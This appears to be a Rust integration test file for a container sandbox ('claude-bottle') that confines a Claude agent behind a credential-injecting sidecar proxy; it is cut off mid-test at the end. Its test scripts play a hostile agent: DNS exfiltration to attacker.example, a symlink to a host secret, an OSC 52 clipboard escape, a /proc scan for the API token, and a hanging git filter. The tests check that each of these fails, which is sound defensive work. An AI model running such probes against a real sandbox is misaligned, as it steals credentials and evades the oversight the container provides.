//! `start --yes --prompt` on the real engine: a bottle comes up, the agent
//! reaches the sidecar's proxy and nothing else, its exit code comes back,
//! and teardown leaves nothing, also after SIGTERM.

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};

use super::bottle::{Home, leftovers, slug_of, start_prompt};

#[test]
fn start_prompt_round_trip() {
    if !super::images_ready("start_prompt_round_trip") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-rt");
    let run = h.run.clone();
    // A skill on the host, with a link to a host secret inside it that
    // must arrive as a dangling link, not as the secret.
    let skill = h.dir.path().join(".claude/skills/review");
    std::fs::create_dir_all(&skill).unwrap();
    std::fs::write(skill.join("SKILL.md"), "# Review skill\n").unwrap();
    std::fs::write(h.dir.path().join("host-secret"), "HOST-ONLY-BYTES\n").unwrap();
    std::os::unix::fs::symlink(h.dir.path().join("host-secret"), skill.join("leak")).unwrap();
    std::fs::write(
        h.dir
            .path()
            .join(format!(".claude-bottle/agents/{}.md", h.agent)),
        "---\nbottle: probe\nskills: [review]\n---\nYou probe.\n",
    )
    .unwrap();
    let script = "curl -s -o /dev/null -w 'health %{http_code}\\n' http://claude-bottle.local/health; \
                  curl -s -o /dev/null -w 'denied %{http_code}\\n' http://denied.example/; \
                  nslookup c2VjcmV0.attacker.example >/dev/null 2>&1 && echo dns LEAK || echo dns refused; \
                  echo uid $(id -u); \
                  cd /run/claude-bottle; n=$(wc -c < ca.pem); \
                  [ \"$(tail -c $n ca-bundle.pem | md5sum)\" = \"$(md5sum < ca.pem)\" ] && echo bundle ends with the CA; \
                  [ \"$(tail -c $n /etc/ssl/certs/ca-certificates.crt | md5sum)\" = \"$(md5sum < ca.pem)\" ] && echo store ends with the CA; \
                  grep -c BEGIN ca.pem; \
                  for f in env prompt.md ca.pem ca-bundle.pem ~/.claude.json; do echo \"${f##*/} $(find $f -maxdepth 0 -printf '%m %U')\"; done; \
                  cat prompt.md; grep -o '\"hasCompletedOnboarding\":true' ~/.claude.json; cd /workspace; \
                  cat ~/.claude/skills/review/SKILL.md; find ~/.claude/skills/review/SKILL.md -maxdepth 0 -printf 'skill %U\\n'; \
                  cat ~/.claude/skills/review/leak 2>/dev/null || echo no leak; \
                  exit 3";
    let (stdout, stderr) = start_prompt(&h, script, 3);
    assert_eq!(
        stdout,
        "health 200\ndenied 403\ndns refused\nuid 1000\n\
         bundle ends with the CA\nstore ends with the CA\n1\n\
         env 600 1000\nprompt.md 600 1000\nca.pem 644 1000\nca-bundle.pem 644 1000\n.claude.json 600 1000\n\
         You probe.\n\"hasCompletedOnboarding\":true\n\
         # Review skill\nskill 1000\nno leak\n",
        "{stderr}"
    );
    assert!(stderr.contains("the agent exited with code 3"), "{stderr}");
    assert!(!stderr.contains("system trust store"), "{stderr}");
    // Teardown says what it is doing (a spinner on a terminal, lines here).
    assert!(
        stderr.contains("saving the outbox and the audit log\n")
            && stderr.contains("removing the bottle\n"),
        "{stderr}"
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

#[test]
fn sigterm_tears_the_bottle_down() {
    if !super::images_ready("sigterm_tears_the_bottle_down") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-term");
    let run = h.run.clone();
    let mut child = h
        .cli(&["start", &h.agent, "--yes", "--prompt", "sleep 120"])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let (mut err, seen) = wait_up(&mut child);
    assert!(
        !leftovers(&run).is_empty(),
        "the bottle is up while the agent runs"
    );
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
    assert_eq!(status.code(), Some(143), "{seen}{rest}");
    assert!(rest.contains("terminated: tearing down"), "{rest}");
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

/// The agent can make the outbox's git hang (a clean filter that sleeps
/// runs in the patch's `git add`): a signal during the save stops it and
/// teardown goes on, instead of the CLI ignoring Ctrl-C for many minutes.
#[test]
fn a_signal_during_the_outbox_save_skips_it_and_tears_down() {
    use std::time::Duration;

    if !super::images_ready("a_signal_during_the_outbox_save_skips_it_and_tears_down") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-slowsave");
    let run = h.run.clone();
    let script = "set -e; cd /workspace; git init -q slow; cd slow; \
                  git config filter.slow.clean 'sleep 1000'; \
                  echo '* filter=slow' > .gitattributes; echo data > a; echo agent-done";
    let mut child = h
        .cli(&["start", &h.agent, "--yes", "--prompt", script])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    while !seen.contains("saving the outbox") {
        let mut line = String::new();
        if err.read_line(&mut line).unwrap() == 0 {
            panic!("the CLI ended before the save:\n{seen}");
        }
        seen.push_str(&line);
    }
    // Into the hanging `git add`.
    std::thread::sleep(Duration::from_secs(3));
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    let Some(status) = exit_within(&mut child, Duration::from_secs(90)) else {
        panic!("the CLI went on saving after SIGTERM:\n{seen}");
    };
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
    assert_eq!(status.code(), Some(0), "the agent's code:\n{seen}{rest}");
    assert!(
        rest.contains("terminated: the outbox is not saved in full; removing the bottle"),
        "{seen}{rest}"
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

/// Attack: the agent's answer to `--prompt` carries terminal sequences
/// (OSC 52 writes the clipboard the user may paste into a host shell). On
/// a terminal they arrive written out; piped, the bytes are the agent's.
#[test]
fn the_agents_output_cannot_drive_the_users_terminal() {
    use std::io::Read;
    use std::time::Duration;

    if !super::images_ready("the_agents_output_cannot_drive_the_users_terminal") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-osc");
    let script = "printf 'before\\033]52;c;cHduZWQ=\\007after\\n'";
    let (controller, terminal) = bottle_testkit::pty();
    let mut child = h
        .cli(&["start", &h.agent, "--yes", "--prompt", script])
        .stdin(Stdio::null())
        .stdout(Stdio::from(terminal))
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = child.stderr.take().unwrap();
    let Some(status) = exit_within(&mut child, Duration::from_secs(300)) else {
        panic!("the CLI did not end");
    };
    let mut stderr = String::new();
    err.read_to_string(&mut stderr).unwrap();
    assert_eq!(status.code(), Some(0), "{stderr}");
    rustix::fs::fcntl_setfl(&controller, rustix::fs::OFlags::NONBLOCK).unwrap();
    let mut shown = Vec::new();
    let mut buf = [0u8; 4096];
    let mut controller = std::fs::File::from(controller);
    while let Ok(n) = controller.read(&mut buf) {
        if n == 0 {
            break;
        }
        shown.extend_from_slice(&buf[..n]);
    }
    let shown = String::from_utf8_lossy(&shown);
    assert!(
        shown.contains(r"before\u{1b}]52;c;cHduZWQ=\u{7}after"),
        "{shown:?}"
    );
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
    // Piped, the same answer is the agent's bytes.
    let (stdout, _) = start_prompt(&h, script, 0);
    assert_eq!(stdout, "before\u{1b}]52;c;cHduZWQ=\u{7}after\n");
    assert_eq!(leftovers(&h.run), Vec::<String>::new());
}

/// A real hangup, as when the terminal window is closed: the CLI is the
/// session leader of a pseudo-terminal whose other end goes away, so it
/// gets SIGHUP and every later write to the terminal fails with EIO. It
/// must still tear everything down (std's `eprintln!` panics on that EIO,
/// which once stopped teardown before it began).
#[test]
fn a_terminal_hangup_tears_the_bottle_down() {
    use std::io::Read;
    use std::time::{Duration, Instant};

    if !super::images_ready("a_terminal_hangup_tears_the_bottle_down") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-hup");
    // The controller is not inherited: a CLI holding it would never be
    // hung up.
    let (controller, terminal) = bottle_testkit::pty();
    rustix::fs::fcntl_setfl(&controller, rustix::fs::OFlags::NONBLOCK).unwrap();

    // `setsid --ctty`: a new session whose controlling terminal is stdin.
    let cli = h.cli(&[
        "start",
        &h.agent,
        "--yes",
        "--prompt",
        "echo agent-running; sleep 120",
    ]);
    let mut cmd = Command::new("setsid");
    cmd.arg("--ctty")
        .arg(cli.get_program())
        .args(cli.get_args());
    for (k, v) in cli.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    cmd.current_dir(cli.get_current_dir().unwrap())
        .stdin(Stdio::from(terminal.try_clone().unwrap()))
        .stdout(Stdio::from(terminal.try_clone().unwrap()))
        .stderr(Stdio::from(terminal));
    let mut child = cmd.spawn().unwrap();
    drop(cmd);

    let mut controller = std::fs::File::from(controller);
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(300);
    while !String::from_utf8_lossy(&seen).contains("agent-running") {
        let mut buf = [0u8; 4096];
        match controller.read(&mut buf) {
            Ok(0) => panic!("the terminal closed:\n{}", String::from_utf8_lossy(&seen)),
            Ok(n) => seen.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(100))
            }
            Err(e) => panic!("{e}:\n{}", String::from_utf8_lossy(&seen)),
        }
        if Instant::now() > deadline || matches!(child.try_wait(), Ok(Some(_))) {
            let _ = child.kill();
            panic!("the agent never ran:\n{}", String::from_utf8_lossy(&seen));
        }
    }
    assert!(
        !leftovers(&h.run).is_empty(),
        "the bottle is up while the agent runs"
    );

    // Close the terminal's only other end: the kernel hangs it up.
    drop(controller);
    let Some(status) = exit_within(&mut child, Duration::from_secs(120)) else {
        panic!("the CLI did not end after the hangup");
    };
    assert_eq!(status.code(), Some(129), "a hangup exits 129, not a panic");
    assert_eq!(leftovers(&h.run), Vec::<String>::new());
}

/// Row 5 of security.md, from both sides: the bottle's real token must not
/// be readable by the agent (env, every process's environ and cmdline,
/// files under /run and home) nor appear in `docker inspect` of any of the
/// bottle's containers; neither it nor an env value is in either
/// container's filesystem layer (`docker export`). The bottle is kept (`--keep`) so the host side can
/// look while it runs, then `cleanup` removes it (its owner is gone).
#[test]
fn the_token_stays_in_the_sidecar() {
    if !super::images_ready("the_token_stays_in_the_sidecar") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-tok");
    let run = h.run.clone();
    let token = "sk-ant-oat01-ROW5-NEVER-IN-THE-AGENT-0123456789";
    let bottles = h.dir.path().join(".claude-bottle/bottles");
    std::fs::write(
        bottles.join("probe.md"),
        "---\nenv:\n  ROW5_ENV: ${ROW5_ENV}\ntokens:\n  - kind: anthropic\n    token_ref: ROW5_TOKEN\negress:\n  allow:\n    - host: allowed.test\n---\n",
    )
    .unwrap();
    // An env value the agent may read, but only from its tmpfs env file
    // and its exec's environment: never from a container's own layer,
    // where the host (and `docker commit`) would find it.
    let env_value = "row5-env-value-ONLY-ON-TMPFS-0123456789";
    let attack = "env; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done; \
                  cat /run/claude-bottle/* ~/.claude.json ~/.gitconfig 2>/dev/null; \
                  grep -rs ROW5 / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -5; \
                  head -c 1048576 /dev/zero > /proc/1/fd/1 2>/dev/null; \
                  awk '/core file/ {print $5, $6}' /proc/self/limits";
    let out = h
        .cli(&["start", &h.agent, "--yes", "--keep", "--prompt", attack])
        .env("ROW5_TOKEN", token)
        .env("ROW5_ENV", env_value)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // Each kept container's filesystem as the engine would export or
    // commit it (tmpfs mounts are not in it): how many times it holds the
    // env value or the token.
    let in_layers: Vec<String> = [
        format!("claude-bottle-{}", h.agent),
        format!("claude-bottle-{}-sidecar", h.agent),
    ]
    .iter()
    .map(|c| {
        let o = Command::new("sh")
            .args([
                "-c",
                "docker export \"$1\" | grep -c -a -F -e \"$2\" -e \"$3\"; true",
                "sh",
                c,
                env_value,
                token,
            ])
            .output()
            .unwrap();
        format!("{c}: {}", String::from_utf8_lossy(&o.stdout).trim())
    })
    .collect();
    let inspected = {
        let ids = Command::new("docker")
            .args([
                "ps",
                "-aq",
                "--filter",
                &format!("label=io.claude-bottle.test={run}"),
            ])
            .output()
            .unwrap();
        let ids: Vec<String> = String::from_utf8_lossy(&ids.stdout)
            .split_whitespace()
            .map(str::to_string)
            .collect();
        assert_eq!(ids.len(), 2, "agent and sidecar kept: {stderr}");
        let o = Command::new("docker")
            .arg("inspect")
            .args(&ids)
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).to_string()
    };
    // From the host (or anything else on the egress side) the sidecar's
    // proxy, gate and DNS must not answer: they would inject the token for
    // whoever asks. They listen on the internal address only.
    let sidecar = format!("claude-bottle-{}-sidecar", h.agent);
    let egress_ip = Command::new("docker")
        .args([
            "inspect",
            "-f",
            &format!(
                "{{{{(index .NetworkSettings.Networks \"claude-bottle-{}-egress\").IPAddress}}}}",
                h.agent
            ),
            &sidecar,
        ])
        .output()
        .unwrap();
    let egress_ip = String::from_utf8_lossy(&egress_ip.stdout)
        .trim()
        .to_string();
    let egress_ip: std::net::IpAddr = egress_ip.parse().expect("the sidecar's egress address");
    // The sidecar itself (docker.md, Hardening): a uid of its own (not
    // nobody, which host daemons share), no capabilities,
    // no-new-privileges, a read-only root, bounded processes and memory; the exec runs with the
    // container's own settings. The sidecar process is not dumpable: its
    // /proc files belong to root, and another process of its own uid (this
    // exec; a host process running as 65200) cannot get into its memory or
    // its tmpfs (checked: without the prctl this prints `65200` and `open`). /var/tmp is writable by anyone on a
    // writable root (checked: with readonly_rootfs off this prints
    // `written`); with capabilities CapEff is not zero. It routes nothing
    // between its two networks: without the sysctls a container's netns
    // starts with the host's `ip_forward` of 1 (checked on this engine).
    let hardening = Command::new("docker")
        .args([
            "exec",
            &sidecar,
            "sh",
            "-c",
            "id -u; (echo x > /var/tmp/planted) 2>/dev/null && echo written || echo read-only; \
             grep -E '^(CapEff|CapPrm|NoNewPrivs):' /proc/self/status; \
             cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max; \
             cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes; \
             cut -d' ' -f1 /sys/fs/cgroup/cpu.max 2>/dev/null || cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us; \
             awk '/core file/ {print $5, $6}' /proc/self/limits; \
             for d in /proc/[0-9]*; do case \"$(tr '\\0' ' ' < $d/cmdline)\" in \
               '/usr/local/bin/claude-bottle sidecar'*) pid=${d#/proc/};; esac; done; \
             stat -c %u /proc/$pid/environ; \
             ls /proc/$pid/root/tmp >/dev/null 2>&1 && echo open || echo closed; \
             cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/conf/all/accept_source_route \
               /proc/sys/net/ipv4/conf/all/send_redirects",
        ])
        .output()
        .unwrap();
    let hardening = String::from_utf8_lossy(&hardening.stdout).to_string();
    // The agent wrote 1 MiB to its init's stdout: the engine keeps no log
    // of the agent container, so none of it is on the host's disk.
    let agent = format!("claude-bottle-{}", h.agent);
    let inspect = |what: &str, of: &str| {
        let o = Command::new("docker")
            .args(["inspect", "-f", what, of])
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    let agent_log_config = inspect("{{json .HostConfig.LogConfig}}", &agent);
    // The host's DNS search domains are not copied into the agent's
    // resolv.conf (this host has none to show, so the setting is checked).
    assert_eq!(
        inspect("{{json .HostConfig.DnsSearch}}", &agent),
        r#"["."]"#
    );
    let agent_log_path = inspect("{{.LogPath}}", &agent);
    let agent_logged = std::fs::metadata(&agent_log_path).map_or(0, |m| m.len());
    // Its log (the audit events, as many as the agent makes) is rotated.
    let log_config = Command::new("docker")
        .args(["inspect", "-f", "{{json .HostConfig.LogConfig}}", &sidecar])
        .output()
        .unwrap();
    let log_config = String::from_utf8_lossy(&log_config.stdout).to_string();
    let answering: Vec<u16> = [3128, 8418, 53]
        .into_iter()
        .filter(|port| {
            std::net::TcpStream::connect_timeout(
                &(egress_ip, *port).into(),
                std::time::Duration::from_secs(2),
            )
            .is_ok()
        })
        .collect();
    let cleaned = h.cli(&["cleanup", "-y", "--all"]).output().unwrap();
    assert!(
        cleaned.status.success(),
        "{}",
        String::from_utf8_lossy(&cleaned.stderr)
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());

    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(
        answering,
        Vec::<u16>::new(),
        "the sidecar answers on its egress side"
    );
    assert_eq!(
        hardening,
        "65200\nread-only\nCapPrm:\t0000000000000000\nCapEff:\t0000000000000000\nNoNewPrivs:\t1\n\
         512\n2147483648\n200000\n1 1\n0\nclosed\n0\n0\n0\n",
        "the sidecar's hardening"
    );
    assert_eq!(
        log_config.trim(),
        r#"{"Type":"json-file","Config":{"max-file":"8","max-size":"64m"}}"#
    );
    assert!(
        agent_log_config.contains(r#""Type":"none""#),
        "{agent_log_config}"
    );
    assert!(
        agent_logged < 4096,
        "{agent_logged} bytes of the agent's in {agent_log_path}"
    );
    // No core dumps in the agent either (its core limit, last line: 1
    // byte, which a piped `core_pattern` treats as never).
    assert_eq!(stdout.trim_end().lines().last(), Some("1 1"), "{stdout}");
    // The attack ran: it saw the placeholder the agent is given instead.
    assert!(
        stdout.contains("CLAUDE_CODE_OAUTH_TOKEN=cred-proxy-placeholder"),
        "{stdout}"
    );
    assert!(
        !stdout.contains(token) && !stdout.contains("ROW5-NEVER"),
        "the agent read the token:\n{stdout}"
    );
    assert!(
        inspected.contains("claude-bottle-probe-tok"),
        "inspect saw the containers"
    );
    assert!(!inspected.contains(token), "the token is in docker inspect");
    assert!(
        stdout.contains(&format!("ROW5_ENV={env_value}")),
        "control: the agent has its env value:\n{stdout}"
    );
    assert_eq!(
        in_layers,
        [
            format!("claude-bottle-{}: 0", h.agent),
            format!("claude-bottle-{}-sidecar: 0", h.agent),
        ],
        "an env value or the token in a container's layer"
    );
    assert!(
        !inspected.contains(env_value),
        "the env value is in docker inspect"
    );
    assert!(!stderr.contains(token), "the CLI printed the token");
}

/// The full round trip of docker.md with the world of testing.md: the
/// agent (holding only the placeholder) calls the model API through the
/// sidecar's reverse proxy and the fake model API receives the real token;
/// an allowed host is reached over intercepted HTTPS (the bottle's CA
/// trusted in the agent, the world's CA trusted by the sidecar as
/// `upstream_ca`); a denied host never sees a byte.
#[test]
fn start_reaches_the_world_and_the_model_api() {
    if !super::images_ready("start_reaches_the_world_and_the_model_api") {
        return;
    }
    let _images = super::image_lock();
    let world = super::world::World::start();
    let h = Home::new("probe-wld");
    let run = h.run.clone();
    let token = "sk-ant-oat01-REAL-TOKEN-ONLY-THE-SIDECAR-HAS-42";
    std::fs::write(
        h.dir.path().join(".claude-bottle/bottles/probe.md"),
        format!(
            "---\ntokens:\n  - kind: anthropic\n    token_ref: WORLD_TOKEN\negress:\n  allow:\n    - host: allowed.test\n  resolve:\n{}  upstream_ca: {}\n---\n",
            world.resolve_yaml("    "),
            world.ca().display()
        ),
    )
    .unwrap();
    let script = "echo \"model: $(claude-standin-model hello)\"; \
                  echo \"allowed: $(curl -s https://allowed.test/hello)\"; \
                  curl -s -o /dev/null -w 'denied %{http_connect}\\n' https://git.world.test/nope; \
                  curl --noproxy '*' -s -m 3 -o /dev/null -w 'direct %{http_code}\\n' http://WORLD_IP/direct; \
                  echo \"agent key: $CLAUDE_CODE_OAUTH_TOKEN\"";
    let script = script.replace("WORLD_IP", &world.ip);
    let out = h
        .cli(&["start", &h.agent, "--yes", "--prompt", &script])
        .env("WORLD_TOKEN", token)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("model: event: message_start"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("fake model reply"), "{stdout}");
    assert!(
        stdout.contains("allowed: world ok allowed.test /hello"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("denied 403"), "{stdout}");
    // Straight to the world's address, around the proxy: the internal
    // network has no route out, so nothing answers...
    assert!(stdout.contains("direct 000"), "{stdout}");
    assert!(
        stdout.contains("agent key: cred-proxy-placeholder"),
        "{stdout}"
    );
    assert!(
        !stdout.contains(token),
        "the agent saw the token:\n{stdout}"
    );

    let got = world.requests();
    let model: Vec<_> = got
        .iter()
        .filter(|r| r["path"].as_str().unwrap().starts_with("/v1/messages"))
        .collect();
    assert_eq!(model.len(), 1, "one model call: {got:?}");
    let m = model[0];
    assert_eq!(m["path"], "/v1/messages?beta=true", "query kept");
    assert_eq!(m["tls"], true);
    assert_eq!(m["host"], "api.anthropic.com");
    assert_eq!(
        m["authorization"],
        format!("Bearer {token}"),
        "the model API got the real token, not the placeholder"
    );
    assert!(
        m["anthropic_beta"]
            .as_str()
            .unwrap()
            .contains("oauth-2025-04-20"),
        "{m}"
    );
    assert!(
        got.iter()
            .any(|r| r["host"] == "allowed.test" && r["path"] == "/hello" && r["tls"] == true),
        "{got:?}"
    );
    assert!(
        !got.iter().any(|r| r["path"] == "/nope"),
        "a denied request reached the world: {got:?}"
    );
    assert!(
        !got.iter().any(|r| r["path"] == "/direct"),
        "the agent reached the world around the proxy: {got:?}"
    );
    // ...while from an ordinary bridge network the same request arrives:
    // the world is reachable, the bottle's network is what stops it.
    let control = Command::new("docker")
        .args([
            "run",
            "--rm",
            "--network",
            "bridge",
            "claude-bottle-test/base:bookworm",
            "curl",
            "-s",
            "-m",
            "5",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ])
        .arg(format!("http://{}/control", world.ip))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&control.stdout), "200", "control");
    assert!(world.requests().iter().any(|r| r["path"] == "/control"));
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

/// A declared repo is cloned through the gate at launch; a push to an
/// allowed branch reaches the upstream, a push to a protected one is
/// refused by the gate and never arrives; the upstream got the repo token,
/// the agent never saw it.
#[test]
fn clone_and_push_through_the_gate() {
    if !super::images_ready("clone_and_push_through_the_gate") {
        return;
    }
    let _images = super::image_lock();
    let world = super::world::World::start();
    let bare = world.bare_repo("app");
    let h = Home::new("probe-git");
    let run = h.run.clone();
    let token = "ghp_GATEONLYTOKEN0123456789abcdefghijklmn";
    std::fs::write(
        h.dir.path().join(".claude-bottle/bottles/probe.md"),
        format!(
            "---\negress:\n  allow:\n    - host: allowed.test\n  resolve:\n{}  upstream_ca: {}\n\
             git:\n  user: {{name: Probe Bot, email: probe@example.com}}\n  repos:\n    app:\n      \
             url: https://git.world.test/git/app.git\n      token_ref: REPO_TOKEN\n      push: [\"agent/*\"]\n---\n",
            world.resolve_yaml("    "),
            world.ca().display()
        ),
    )
    .unwrap();
    let script = "set -e; cd /workspace/app; cat README.md; \
                  git checkout -qb agent/work; echo change > change.txt; git add change.txt; \
                  git commit -qm 'agent work'; git push -q origin agent/work && echo pushed-branch; \
                  git push -q origin HEAD:main 2>/dev/null && echo pushed-main || echo main-refused; \
                  git config --get remote.origin.url; find ~/.gitconfig -maxdepth 0 -printf 'gitconfig %m %U\\n'; \
                  env | grep -c ghp_ || true";
    let out = h
        .cli(&["start", &h.agent, "--yes", "--prompt", script])
        .env("REPO_TOKEN", token)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(
        stdout,
        "seeded by the fake world\npushed-branch\nmain-refused\nhttps://git.world.test/git/app.git\n\
         gitconfig 644 1000\n0\n",
        "{stderr}"
    );
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .args(args)
            .current_dir(&bare)
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    assert_eq!(
        git(&["log", "-1", "--format=%s", "agent/work"]),
        "agent work"
    );
    assert_eq!(
        git(&["log", "-1", "--format=%s", "main"]),
        "seed",
        "main untouched"
    );
    let got = world.requests();
    let pushes: Vec<_> = got
        .iter()
        .filter(|r| r["path"].as_str().unwrap().ends_with("/git-receive-pack"))
        .collect();
    assert_eq!(pushes.len(), 1, "only the allowed push arrived: {got:?}");
    let basic = got
        .iter()
        .filter_map(|r| r["authorization"].as_str())
        .next()
        .unwrap_or_default()
        .to_string();
    assert!(basic.starts_with("Basic "), "{got:?}");
    assert!(!stdout.contains(token));
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

/// Wait until the CLI's stderr says the bottle is up; returns what it said.
/// The child's exit status, or `None` (and the child killed) when it has
/// not ended within `limit`.
fn exit_within(
    child: &mut std::process::Child,
    limit: std::time::Duration,
) -> Option<std::process::ExitStatus> {
    let deadline = std::time::Instant::now() + limit;
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

fn wait_up(child: &mut std::process::Child) -> (BufReader<std::process::ChildStderr>, String) {
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    loop {
        let mut line = String::new();
        if err.read_line(&mut line).unwrap() == 0 {
            panic!("the CLI ended before the bottle came up:\n{seen}");
        }
        seen.push_str(&line);
        if line.contains("is up") {
            return (err, seen);
        }
    }
}

/// Two bottles of one agent run side by side (the second gets slug `-2`);
/// a CLI killed with SIGKILL leaves its bottle, the next `start` warns
/// about it, and `cleanup` removes every labelled object and the state
/// folder.
#[test]
fn side_by_side_then_sigkill_and_cleanup() {
    if !super::images_ready("side_by_side_then_sigkill_and_cleanup") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-kill");
    let run = h.run.clone();
    let mut first = h
        .cli(&["start", &h.agent, "--yes", "--prompt", "sleep 120"])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let (_err, _) = wait_up(&mut first);
    let state = h.dir.path().join(".claude-bottle/state").join(&h.agent);
    let owner = std::fs::read_to_string(state.join("owner")).unwrap();
    assert!(owner.contains(&format!(":{}:", first.id())), "{owner}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&state).unwrap().permissions().mode() & 0o777,
        0o700
    );

    let second = h
        .cli(&[
            "start",
            &h.agent,
            "--yes",
            "--prompt",
            "hostname >/dev/null; echo second ran",
        ])
        .output()
        .unwrap();
    let err2 = String::from_utf8_lossy(&second.stderr);
    assert!(second.status.success(), "{err2}");
    assert_eq!(String::from_utf8_lossy(&second.stdout), "second ran\n");
    assert!(
        err2.contains(&format!("bottle `{}-2` is up", h.agent)),
        "{err2}"
    );
    assert!(
        !err2.contains("left by bottles"),
        "the first one is alive: {err2}"
    );

    Command::new("kill")
        .args(["-KILL", &first.id().to_string()])
        .status()
        .unwrap();
    first.wait().unwrap();
    assert!(!leftovers(&run).is_empty(), "SIGKILL leaves the bottle");

    let third = h
        .cli(&["start", &h.agent, "--yes", "--prompt", "true"])
        .output()
        .unwrap();
    let err3 = String::from_utf8_lossy(&third.stderr);
    assert!(third.status.success(), "{err3}");
    assert!(
        err3.contains("left by bottles whose CLI is gone")
            && err3.contains("claude-bottle cleanup"),
        "{err3}"
    );

    let cleaned = h.cli(&["cleanup", "-y"]).output().unwrap();
    assert!(
        cleaned.status.success(),
        "{}",
        String::from_utf8_lossy(&cleaned.stderr)
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());
    assert!(
        !state.exists(),
        "cleanup removes the dead run's state folder"
    );
}

/// `--copy-cwd`: what git tracks (plus untracked, not ignored files) and
/// `.git` become /workspace, owned by the agent user; ignored files stay
/// out; `.git/config` loses its token (URL user information and
/// `extraheader`) but git still reads it; secret-looking files are named;
/// the derived image is removed at teardown.
#[test]
fn copy_cwd_through_a_derived_image() {
    if !super::images_ready("copy_cwd_through_a_derived_image") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-cwd");
    let run = h.run.clone();
    let proj = h.dir.path().join("proj");
    std::fs::create_dir(&proj).unwrap();
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .args(args)
            .current_dir(&proj)
            .env("HOME", h.dir.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    git(&["init", "-q", "-b", "main"]);
    // What actions/checkout and a token-in-URL clone leave in .git/config.
    git(&[
        "config",
        "remote.origin.url",
        "https://x-access-token:ghs_ENGINETOKEN@github.com/o/r",
    ]);
    git(&[
        "config",
        "http.https://github.com/.extraheader",
        "AUTHORIZATION: basic ZW5naW5lLXRva2Vu",
    ]);
    std::fs::write(proj.join(".gitignore"), "target/\n").unwrap();
    std::fs::write(proj.join("main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(proj.join(".env.local"), "X=1\n").unwrap();
    std::fs::create_dir(proj.join("target")).unwrap();
    std::fs::write(proj.join("target/junk"), "junk").unwrap();
    git(&["add", "main.rs", ".gitignore"]);
    git(&[
        "-c",
        "user.name=T",
        "-c",
        "user.email=t@example.com",
        "commit",
        "-qm",
        "first",
    ]);
    let script = "cd /workspace; ls -A | tr '\\n' ' '; echo; find main.rs -maxdepth 0 -printf 'owner %U\\n'; \
                  git log --format=%s; test -e target && echo target copied || echo no target; \
                  grep -c -e ENGINETOKEN -e ZW5naW5l -e AUTHORIZATION .git/config; \
                  git config remote.origin.url";
    let out = h
        .cli(&["start", &h.agent, "--yes", "--copy-cwd", "--prompt", script])
